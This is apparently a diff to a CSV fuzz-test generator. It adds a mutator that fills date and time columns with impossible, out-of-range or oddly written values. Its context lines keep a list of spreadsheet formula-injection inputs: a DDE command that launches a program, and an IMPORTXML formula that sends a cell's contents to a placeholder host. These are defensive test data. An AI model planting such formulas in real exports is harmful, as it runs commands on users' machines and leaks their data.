@@ -138,7 +138,7 @@ _FORMULAS = ["=HYPERLINK(\"http://x\",\"y\")", "+cmd|' /C calc'!A0", "-2+3", "@S
              "=1/0", "=" + "A" * 300, "\t=1+1", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")"]  # fmt: skip
 _WEIRD = ["\u202e", "\u200b", "\ufeff", "\x00", "\ud7a3\u0301" * 3, "Ａ１２３", "🙂", "\x1b[31m",
           "\u3164", "\r", "\x85", "\u2028", "𝟗𝟗𝟗", "١٢٣", "NaN", "inf", "-0", "1e309",
-          "9" * 400, "None", "null", "2025-02-30", "0000-00-00", "25:61:61", "-1", ""]  # fmt: skip
+          "9" * 400, "None", "null", "2025-02-30", "0000-00-00", "2825-01-03", "16000101", "99991231", "25:61:61", "-1", ""]  # fmt: skip
 
 
 def _text_base(rng: random.Random) -> str:
@@ -151,6 +151,22 @@ def _cells_mutation(rng: random.Random) -> str:
     for _ in range(rng.randint(1, 12)):
         row = rng.choice(table[1:])
         row[rng.randrange(len(row))] = rng.choice(_FORMULAS + _WEIRD)
+    return _csv_text(table)
+
+
+_DATES = ["2825-01-03", "28250103", "1600-01-01", "9999-12-31", "99991231", "2025-02-30",
+          "2025-13-01", "0000-00-00", "1e309", "45658", "999999", "2025.01.03", "2025-1-3",
+          "2025-01-03 25:00:00", "-2025-01-03", "２０２５-０１-０３", "2025-01-03T10:00:00+99:00"]  # fmt: skip
+_TIMES = ["25:61:61", "99999999999:00", "24:00:00", "-1:00", "10:00:00.9999999999", "1e9"]
+
+
+def _dates(rng: random.Random) -> str:
+    """Dates and times out of range, impossible or oddly written."""
+    table = [list(r) for r in TABLE]
+    for row in rng.sample(table[1:], rng.randint(1, 6)):
+        row[5] = rng.choice(_DATES)
+        if rng.random() < 0.3:
+            row[6] = rng.choice(_TIMES)
     return _csv_text(table)
 
 
@@ -269,6 +285,7 @@ def _csv_case(rng: random.Random) -> tuple[str, bytes]:
     makers: list[tuple[str, Callable[[random.Random], str | bytes]]] = [
         ("cells", _cells_mutation),
         ("ragged", _ragged),
+        ("dates", _dates),
         ("header", _header_mutation),
         ("huge", _huge),
         ("cut", _cut),
